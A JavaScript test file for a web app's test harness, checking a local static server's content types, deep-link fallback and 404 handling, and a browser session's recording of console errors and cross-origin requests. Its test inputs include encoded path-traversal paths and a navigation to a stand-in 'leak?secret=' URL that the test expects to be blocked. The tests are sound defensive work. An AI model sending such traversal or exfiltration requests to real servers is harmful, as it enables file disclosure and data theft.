// The test support itself, so a passing browser test can be trusted: the static server
// (support/server.mjs: content types, the single-page-app fallback for deep links, 404s) and the
// browser session's watch on console problems and on requests to other origins (support/browser.mjs).
import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readdir } from 'node:fs/promises';
import http from 'node:http';
import { distDir } from './support/server.mjs';
import { useBrowser } from './support/harness.mjs';
import { openApplications } from './support/app.mjs';

const env = useBrowser();
let files;

before(async () => {
  files = await readdir(distDir());
});

/** A raw GET (so the path is sent exactly as written, without URL normalisation). */
function get(path) {
  return new Promise((resolve, reject) => {
    const request = http.get(`${env.server.url}${path}`, (response) => {
      const chunks = [];
      response.on('data', (chunk) => chunks.push(chunk));
      response.on('end', () =>
        resolve({ status: response.statusCode, type: response.headers['content-type'], body: Buffer.concat(chunks).toString('utf8') }),
      );
    });
    request.on('error', reject);
  });
}

describe('The static server', () => {
  test('it listens on 127.0.0.1 on an ephemeral port', () => {
    const url = new URL(env.server.url);
    assert.equal(url.hostname, '127.0.0.1');
    assert.ok(Number(url.port) > 0);
  });

  test('it serves each built file with its content type, the wasm module as application/wasm', async () => {
    const expected = { '.wasm': /^application\/wasm$/, '.js': /^text\/javascript/, '.css': /^text\/css/, '.html': /^text\/html/, '.svg': /^image\/svg\+xml/ };
    for (const [extension, type] of Object.entries(expected)) {
      const file = files.find((name) => name.endsWith(extension));
      assert.ok(file, `dist/ has a ${extension} file`);
      const response = await get(`/${file}`);
      assert.equal(response.status, 200, file);
      assert.match(response.type, type, file);
    }
  });

  test('a deep link without a file extension gets index.html', async () => {
    const index = await get('/index.html');
    for (const path of ['/', '/applications', '/applications/0badc0de-0000-4000-8000-000000000000/configuration']) {
      const response = await get(path);
      assert.equal(response.status, 200, path);
      assert.match(response.type, /^text\/html/, path);
      assert.equal(response.body, index.body, path);
    }
  });

  test('a missing file with an extension, or a path outside dist/, is a 404', async () => {
    for (const path of ['/missing.js', '/missing.wasm', '/%2e%2e/package.json', '/..%2fpackage.json']) {
      assert.equal((await get(path)).status, 404, path);
    }
  });
});

describe('The browser session', () => {
  test('a request to another origin is blocked and recorded, so assertClean fails', async () => {
    const session = await env.open();
    try {
      await openApplications(session.page);
      session.assertClean();
      // The app's Content-Security-Policy would stop a fetch before it is made; a navigation is not.
      await assert.rejects(session.page.goto('http://192.0.2.1/leak?secret=x'), /ERR_BLOCKED_BY_CLIENT/);
      assert.deepEqual(session.foreignRequests, ['GET http://192.0.2.1/leak?secret=x']);
      assert.throws(() => session.assertClean(), /another origin/);
    } finally {
      await session.close();
    }
  });

  test('a console error or warning and an uncaught error are recorded, so assertClean fails', async () => {
    const session = await env.open();
    try {
      await openApplications(session.page);
      await session.page.evaluate(() => {
        console.warn('a warning');
        console.error('an error');
        setTimeout(() => {
          throw new Error('uncaught');
        });
      });
      await session.page.waitForTimeout(100);
      assert.equal(session.problems.length, 3, session.problems.join('\n'));
      assert.throws(() => session.assertClean(), /no console error or warning/);
    } finally {
      await session.close();
    }
  });
});
